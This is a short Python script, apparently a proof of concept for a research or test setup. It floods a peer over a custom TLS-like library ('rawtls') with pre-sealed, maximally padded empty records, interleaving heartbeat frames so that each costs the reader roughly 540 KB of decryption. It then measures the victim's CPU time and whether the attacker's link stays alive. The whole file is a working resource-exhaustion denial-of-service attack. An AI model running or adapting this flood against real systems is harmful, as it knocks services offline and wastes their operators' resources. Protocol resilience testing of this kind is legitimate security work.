"""Pre-sealed flood: groups of 32 empty records (max padding) + 1 record with one HB frame (max padding).
Each frame thus costs ~540 KB of decryption; the reader's 256-unit budget is about 140 MB."""
import sys, copy
from rawtls import *
MB = int(sys.argv[1]); empties = int(sys.argv[2]) if len(sys.argv) > 2 else 32
V = pid("v")
p = Raw(me="a", auto_hb=True); p.wait_synced()
RES = 2000   # sequence numbers reserved for our heartbeats while sealing
with p.wlock:
    d = copy.copy(p.tx); flood_start = p.tx.seq + RES; d.seq = flood_start
t0 = time.monotonic(); parts = []; size = 0; i = 0
while size < MB * 1e6:
    for _ in range(empties):
        parts.append(d.seal(CT_APP, b"", 16384))
    parts.append(d.seal(CT_APP, hb(i), 16384 - 13)); i += 1
    size += (empties + 1) * (16384 + 22)
buf = b"".join(parts); del parts
print("sealed %d MB (%d frames) in %.1fs" % (len(buf) // 10**6, i, time.monotonic() - t0), flush=True)
wait_block()
c0 = cpu(V); t0 = time.monotonic()
with p.wlock:   # the flood holds our HB frames (one per 33 records); our HB thread waits meanwhile
    fill = b"".join(p.tx.seal(CT_APP, hb(7)) for _ in range(flood_start - p.tx.seq))
    try:
        p.s.sendall(fill); p.s.sendall(memoryview(buf))
    except Exception as e:
        print("send:", repr(e))
    p.tx = d
t1 = time.monotonic()
time.sleep(1)
alive = p.closed_at is None and p.lookup(timeout=5) is not None
print("sent in %.1fs (%.0f MB/s), v cpu %.1fs; attacker link alive=%s %s" % (t1 - t0, len(buf) / 1e6 / (t1 - t0), cpu(V) - c0, alive, p.close_reason))
p.close()
